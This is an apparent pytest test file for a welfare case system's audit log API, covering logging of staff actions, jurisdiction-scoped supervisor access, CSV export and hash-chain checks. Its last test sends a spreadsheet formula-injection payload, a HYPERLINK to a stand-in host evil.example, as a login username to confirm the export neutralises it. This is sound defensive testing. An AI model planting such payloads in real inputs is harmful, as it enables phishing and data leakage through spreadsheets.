"""The audit log through the API: what staff do to a case (and what they are refused) is recorded
with who, when, from where and the outcome; supervisors read it within their jurisdiction, as JSON
or CSV, and can check its hash chain."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import select, text

from domain.staff import Role
from infra.models import Staff, Task
from infra.passwords import hash_password
from infra.seed import DEMO_PASSWORD
from tests.e2e.support import Sessions, file_complete_case, login, refused, verification_tasks
from tests.e2e.test_tasks_api import HOME_VISIT_FORM
from tests.factories import application_payload

# Accounts the demo seed lacks: a supervisor of the other county, and one of a single township.
EXTRA_SUPERVISORS = {"audit_sup_tianhe": "440106", "audit_sup_xingang": "440105002"}


async def ensure_supervisors(sessions: Sessions) -> None:
    async with sessions.begin() as session:
        existing = set(
            await session.scalars(select(Staff.username).where(Staff.username.in_(EXTRA_SUPERVISORS)))
        )
        for username, region in EXTRA_SUPERVISORS.items():
            if username not in existing:
                session.add(
                    Staff(
                        username=username,
                        display_name="审计测试监督员",
                        password_hash=hash_password(DEMO_PASSWORD),
                        role=Role.SUPERVISOR.value,
                        region_code=region,
                        active=True,
                    )
                )


async def audit_of(api: httpx.AsyncClient, viewer: str, **params: Any) -> list[dict[str, Any]]:
    """The entries the viewer may see, oldest first."""
    response = await api.get(
        "/api/v1/audit", params={"limit": 500, **params}, headers=await login(api, viewer)
    )
    assert response.status_code == 200, response.text
    items: list[dict[str, Any]] = response.json()["items"]
    return items[::-1]


def summary(entries: list[dict[str, Any]]) -> list[tuple[str, str | None, str, int]]:
    return [(e["action"], e["actor_username"], e["outcome"], e["status_code"]) for e in entries]


@pytest.fixture
async def case(
    api: httpx.AsyncClient, clerk: dict[str, str], sessions: Sessions, application_number: str
) -> dict[str, Task]:
    await file_complete_case(api, clerk, application_number)
    return await verification_tasks(api, sessions, application_number)


async def test_decisions_and_refusals_on_a_case_are_recorded_in_order(
    api: httpx.AsyncClient, case: dict[str, Task], application_number: str, clerk: dict[str, str]
) -> None:
    visit = case["home_visit"].task_id
    first, second = await login(api, "inv_chigang_1"), await login(api, "inv_chigang_2")
    reviewer, approver = await login(api, "reviewer_chigang"), await login(api, "approver_haizhu")
    resubmitted = await api.post(
        "/api/v1/applications",
        json=application_payload(
            application_number, materials=["身份证明", "户口簿", "家庭收入情况说明", "家庭财产情况说明"]
        ),
        headers={**clerk, "User-Agent": "window-client/2.1"},
    )
    assert resubmitted.status_code == 200, resubmitted.text

    refused(await api.post(f"/api/v1/tasks/{visit}/claim", headers=reviewer), 403, "forbidden")
    assert (await api.post(f"/api/v1/tasks/{visit}/claim", headers=first)).status_code == 200
    refused(await api.post(f"/api/v1/tasks/{visit}/claim", headers=second), 409, "task_not_open")
    bad_form = {"outcome": "completed", "form": {**HOME_VISIT_FORM, "investigators": ["李建华"]}}
    refused(
        await api.post(f"/api/v1/tasks/{visit}/complete", json=bad_form, headers=first), 422, "invalid_form"
    )
    assert (await api.post(f"/api/v1/tasks/{visit}/release", headers=first)).status_code == 200
    completion = {"outcome": "completed", "form": HOME_VISIT_FORM}
    assert (
        await api.post(f"/api/v1/tasks/{visit}/complete", json=completion, headers=second)
    ).status_code == 200
    url = f"/api/v1/applications/{application_number}"
    refused(
        await api.post(f"{url}/extend", json={"reason": "需跨区核查房产信息"}, headers=clerk),
        403,
        "forbidden",
    )
    assert (
        await api.post(f"{url}/extend", json={"reason": "需跨区核查房产信息"}, headers=approver)
    ).status_code == 200
    refused(
        await api.post(f"{url}/extend", json={"reason": "再次延长办理时限"}, headers=approver),
        409,
        "already_extended",
    )
    refused(await api.post(f"{url}/extend", json={"reason": "短"}, headers=approver), 422, "validation_error")

    entries = await audit_of(api, "supervisor_haizhu", application_number=application_number)
    assert summary(entries) == [
        ("application.submit", "clerk_chigang", "ok", 201),
        ("application.submit", "clerk_chigang", "ok", 200),
        ("task.claim", "reviewer_chigang", "refused", 403),
        ("task.claim", "inv_chigang_1", "ok", 200),
        ("task.claim", "inv_chigang_2", "refused", 409),
        ("task.complete", "inv_chigang_1", "refused", 422),
        ("task.release", "inv_chigang_1", "ok", 200),
        ("task.complete", "inv_chigang_2", "ok", 200),
        ("application.extend", "clerk_chigang", "refused", 403),
        ("application.extend", "approver_haizhu", "ok", 200),
        ("application.extend", "approver_haizhu", "refused", 409),
        ("application.extend", "approver_haizhu", "refused", 422),
    ]
    submit, resubmit, wrong_role, claim, taken, bad, _, done, clerk_extend, *_ = entries
    # The stage is what the answer said (intake or already verification: the workflow runs on).
    assert {k: v for k, v in submit["detail"].items() if k != "stage"} == {
        "assistance_type": "dibao",
        "channel": "walk_in",
        "created": True,
    }
    assert submit["detail"]["stage"] in ("intake", "verification")
    assert resubmit["detail"]["created"] is False and resubmit["user_agent"] == "window-client/2.1"
    assert wrong_role["detail"] == {"code": "forbidden"} and wrong_role["actor_role"] == "township_reviewer"
    assert taken["detail"] == {"code": "task_not_open"}
    assert bad["detail"] == {"outcome": "completed", "code": "invalid_form"}
    assert done["detail"] == {"outcome": "completed", "task_type": "home_visit", "status": "completed"}
    assert clerk_extend["detail"] == {"code": "forbidden"}
    for entry in entries:
        assert entry["county_code"] == "440105" and entry["region_code"].startswith("440105001")
        assert entry["client_ip"] == "127.0.0.1" and entry["action_label"]
        assert len(entry["hash"]) == 64
    assert {e["target_id"] for e in entries if e["target_type"] == "task"} == {visit}
    assert claim["target_type"] == "task" and claim["application_number"] == application_number

    # Codes and outcomes only: no names, ID numbers, phones or free text from the forms.
    text_of_log = json.dumps(entries, ensure_ascii=False)
    payload = application_payload(application_number)
    for secret in (
        payload["applicant"]["id_number"],
        payload["applicant"]["phone"],
        "张小明",
        "需跨区核查",
        "邻居",
    ):
        assert secret not in text_of_log

    report = await api.get("/api/v1/audit/verify", headers=await login(api, "supervisor_haizhu"))
    assert report.status_code == 200 and report.json()["intact"] is True, report.json()
    assert report.json()["checked"] == report.json()["head_seq"] >= len(entries)


async def test_only_supervisors_read_it_and_only_within_their_jurisdiction(
    api: httpx.AsyncClient, case: dict[str, Task], application_number: str, sessions: Sessions
) -> None:
    await ensure_supervisors(sessions)
    tianhe_number = application_number.replace("440105-", "440106-")
    region = {"county_code": "440106", "township_code": "440106001", "community_code": "440106001001"}
    filed = await api.post(
        "/api/v1/applications",
        json=application_payload(tianhe_number, region=region),
        headers=await login(api, "clerk_wushan"),
    )
    assert filed.status_code == 201, filed.text

    for username in ("clerk_chigang", "operator_haizhu", "approver_haizhu", "inv_chigang_1"):
        body = refused(await api.get("/api/v1/audit", headers=await login(api, username)), 403, "forbidden")
        assert "监督人员" in body["message"]
    assert (await api.get("/api/v1/audit")).status_code == 401
    assert (await api.get("/api/v1/audit.csv")).status_code == 401
    assert (await api.get("/api/v1/audit/verify")).status_code == 401

    haizhu = await audit_of(api, "supervisor_haizhu")
    tianhe = await audit_of(api, "audit_sup_tianhe")
    xingang = await audit_of(api, "audit_sup_xingang")
    assert application_number in {e["application_number"] for e in haizhu}
    assert tianhe_number not in {e["application_number"] for e in haizhu}
    assert tianhe_number in {e["application_number"] for e in tianhe}
    assert application_number not in {e["application_number"] for e in tianhe}
    assert application_number not in {e["application_number"] for e in xingang}  # 赤岗, not 新港

    def inside(entry: dict[str, Any], region: str) -> bool:
        return any((entry[k] or "").startswith(region) for k in ("region_code", "actor_region"))

    assert all(inside(e, "440105") or e["region_code"] is None for e in haizhu)
    assert all(inside(e, "440106") or e["region_code"] is None for e in tianhe)
    assert all(inside(e, "440105002") for e in xingang)  # a township sees no system-wide entries
    # Logins are entries about the staff account, in the staff member's own region.
    logins = [e for e in haizhu if e["action"] == "login.succeeded"]
    assert {"clerk_chigang", "supervisor_haizhu"} <= {e["actor_username"] for e in logins}
    assert "clerk_wushan" not in {e["actor_username"] for e in logins}


async def test_filters_pages_and_the_csv_export(
    api: httpx.AsyncClient, case: dict[str, Task], application_number: str
) -> None:
    visit = case["home_visit"].task_id
    inv = await login(api, "inv_chigang_1")
    started = datetime.now(UTC)
    assert (await api.post(f"/api/v1/tasks/{visit}/claim", headers=inv)).status_code == 200
    assert (await api.post(f"/api/v1/tasks/{visit}/release", headers=inv)).status_code == 200
    assert (await api.post(f"/api/v1/tasks/{visit}/claim", headers=inv)).status_code == 200

    claims = await audit_of(
        api, "supervisor_haizhu", application_number=application_number, action="task.claim"
    )
    assert summary(claims) == [("task.claim", "inv_chigang_1", "ok", 200)] * 2
    mine = await audit_of(
        api, "supervisor_haizhu", actor="inv_chigang_1", application_number=application_number
    )
    assert [e["action"] for e in mine] == ["task.claim", "task.release", "task.claim"]
    since = await audit_of(
        api, "supervisor_haizhu", application_number=application_number, **{"from": started.isoformat()}
    )
    assert [e["action"] for e in since] == ["task.claim", "task.release", "task.claim"]
    before = await audit_of(
        api, "supervisor_haizhu", application_number=application_number, to=started.isoformat()
    )
    assert [e["action"] for e in before] == ["application.submit"]
    assert (
        await audit_of(api, "supervisor_haizhu", application_number=application_number, outcome="refused")
        == []
    )

    supervisor = await login(api, "supervisor_haizhu")
    page = (
        await api.get(
            "/api/v1/audit",
            params={"application_number": application_number, "limit": 2, "offset": 1},
            headers=supervisor,
        )
    ).json()
    assert (
        page["total"] == 4
        and page["limit"] == 2
        and [e["action"] for e in page["items"]] == ["task.release", "task.claim"]
    )
    refused(await api.get("/api/v1/audit", params={"limit": 0}, headers=supervisor), 422, "validation_error")
    refused(
        await api.get("/api/v1/audit", params={"from": "yesterday"}, headers=supervisor),
        422,
        "validation_error",
    )
    nul = {"actor": "inv\x00"}  # PostgreSQL cannot even compare such text
    refused(await api.get("/api/v1/audit", params=nul, headers=supervisor), 422, "validation_error")

    exported = await api.get(
        "/api/v1/audit.csv", params={"application_number": application_number}, headers=supervisor
    )
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    assert exported.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0][:6] == ["编号", "时间（北京时间）", "操作人", "岗位", "操作人辖区", "操作"]
    assert [r[5] for r in rows[1:]] == ["认领待办", "退回待办", "认领待办", "受理申请"]
    assert rows[1][3] == "入户调查员" and rows[1][14] == "成功"
    export = (await audit_of(api, "supervisor_haizhu", action="audit.export", actor="supervisor_haizhu"))[-1]
    assert export["detail"] == {"rows": 4, "application_number": application_number}


async def test_reads_of_full_personal_data_are_recorded_and_refused_without_the_log(
    api: httpx.AsyncClient,
    case: dict[str, Task],
    application_number: str,
    sessions: Sessions,
    caplog: pytest.LogCaptureFixture,
) -> None:
    url = f"/api/v1/applications/{application_number}/personal-data"
    clerk, supervisor = await login(api, "clerk_chigang"), await login(api, "supervisor_haizhu")
    assert (await api.get(url, headers=clerk)).status_code == 200
    refused(await api.get(url, headers=supervisor), 403, "forbidden")
    reads = await audit_of(
        api, "supervisor_haizhu", application_number=application_number, action="personal_data.read"
    )
    assert summary(reads) == [
        ("personal_data.read", "clerk_chigang", "ok", 200),
        ("personal_data.read", "supervisor_haizhu", "refused", 403),
    ]
    assert reads[0]["detail"] == {"members": 2}

    # The audit store refuses every insert: the personal record is not handed out (503), while a
    # decision the workflow has already taken stands, and the lost entry goes to the error log.
    async with sessions.begin() as session:
        await session.execute(
            text(
                "CREATE TRIGGER audit_log_offline BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'offline'); END"
            )
        )
    try:
        blocked = refused(await api.get(url, headers=clerk), 503, "audit_unavailable")
        assert "审计" in blocked["message"] and "id_number" not in json.dumps(blocked)
        with caplog.at_level(logging.ERROR, logger="services.audit"):
            claimed = await api.post(
                f"/api/v1/tasks/{case['home_visit'].task_id}/claim", headers=await login(api, "inv_chigang_1")
            )
        assert claimed.status_code == 200, claimed.text
        assert any(
            "audit entry not written" in r.getMessage() and "task.claim" in r.getMessage()
            for r in caplog.records
        )
    finally:
        async with sessions.begin() as session:
            await session.execute(text("DROP TRIGGER audit_log_offline"))

    report = await api.get("/api/v1/audit/verify", headers=supervisor)
    assert report.json()["intact"] is True  # the failed inserts left no half-written entry behind


async def test_holiday_calendar_changes_are_recorded_for_every_county(
    api: httpx.AsyncClient, sessions: Sessions
) -> None:
    await ensure_supervisors(sessions)
    operator = await login(api, "operator_province")  # the calendar is national: provincial operators
    body = {"complete": False, "days": [{"day": "2031-01-01", "is_working_day": False, "name": "元旦"}]}
    assert (await api.put("/api/v1/admin/calendar/2031", json=body, headers=operator)).status_code == 200
    refused(
        await api.put("/api/v1/admin/calendar/2031", json=body, headers=await login(api, "clerk_chigang")),
        403,
        "forbidden",
    )

    for viewer in ("supervisor_haizhu", "audit_sup_tianhe"):
        changes = await audit_of(api, viewer, action="calendar.replace")
        assert summary(changes)[-2:] == [
            ("calendar.replace", "operator_province", "ok", 200),
            ("calendar.replace", "clerk_chigang", "refused", 403),
        ], viewer
        detail = changes[-2]["detail"]
        assert {k: detail[k] for k in ("year", "complete", "days")} == {
            "year": 2031,
            "complete": False,
            "days": 1,
        }
        assert detail["changed_count"] == len(detail["changed_days"])
        assert changes[-2]["target_id"] == "2031" and changes[-2]["region_code"] is None
    assert await audit_of(api, "audit_sup_xingang", action="calendar.replace") == []
    assert datetime.fromisoformat(changes[-1]["at"]) > datetime.now(UTC) - timedelta(minutes=5)


async def test_a_formula_sent_as_username_and_user_agent_is_neutralised_in_the_csv_export(
    api: httpx.AsyncClient, application_number: str
) -> None:
    """Issue 16: text from an unauthenticated login attempt must not become a formula in Excel."""
    username = f'=HYPERLINK("http://evil.example/{application_number}","点此查看")'
    agent = "@SUM(1)"
    tried = await api.post(
        "/api/v1/auth/token", data={"username": username, "password": "x"}, headers={"User-Agent": agent}
    )
    assert tried.status_code == 401
    supervisor = await login(api, "supervisor_haizhu")
    exported = await api.get("/api/v1/audit.csv", params={"actor": username}, headers=supervisor)
    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    header, entries = rows[0], rows[1:]
    assert len(entries) == 1
    entry = dict(zip(header, entries[0], strict=True))
    assert entry["操作"] == "登录失败"
    assert entry["操作人"] == "'" + username
    assert entry["客户端"] == "'" + agent
    # No cell of the export may start a formula.
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
